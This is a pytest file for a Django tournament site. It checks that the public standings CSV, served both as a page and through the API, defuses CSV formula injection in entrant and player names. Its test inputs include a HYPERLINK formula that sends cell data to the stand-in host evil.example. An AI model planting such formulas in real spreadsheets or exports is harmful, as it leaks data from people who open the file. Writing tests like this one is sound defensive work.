"""The standings CSV (page and API, open to anyone) never hands a spreadsheet a formula."""

import csv
import io
import re

import pytest
from django.urls import reverse

from tournaments import services
from tournaments.models import Entrant, EntrantMember, Round

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-SUM(1,2)",
    "@SUM(1,2)",
    "\t=SUM(1,2)",
    "\r=SUM(1,2)",
]


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("evil", EVIL)
def test_names_that_look_like_formulas_are_defused(client, director, published, evil):
    entrant = Entrant.objects.filter(tournament=published).order_by("seed").first()
    Entrant.objects.filter(pk=entrant.pk).update(name=evil)
    member = EntrantMember.objects.filter(entrant=entrant).order_by("position").first()
    member.user.display_name = evil
    member.user.save()
    round_ = Round.objects.get(tournament=published, number=1)
    for table in round_.tables.order_by("number"):
        services.result_enter(director, table, scores=[500, 200])
    services.standings_recalculate(published.pk)
    page = client.get(reverse("tournaments:standings_csv", args=[published.pk]))
    api = client.get(f"/api/tournaments/{published.pk}/standings-csv/")
    for rows in (rows_of(page), rows_of(api)):
        names = [row[1] for row in rows[1:]] + [row[2] for row in rows[1:]]
        cells = [cell for row in rows for cell in row]
        risky = [
            c for c in cells if c and c[0] in "=+-@\t\r" and not re.fullmatch(r"-?[0-9.,]+", c)
        ]
        assert not risky
        assert "'" + evil in names
        assert any(("'" + evil) in name for name in names[len(rows) - 1 :])  # the players
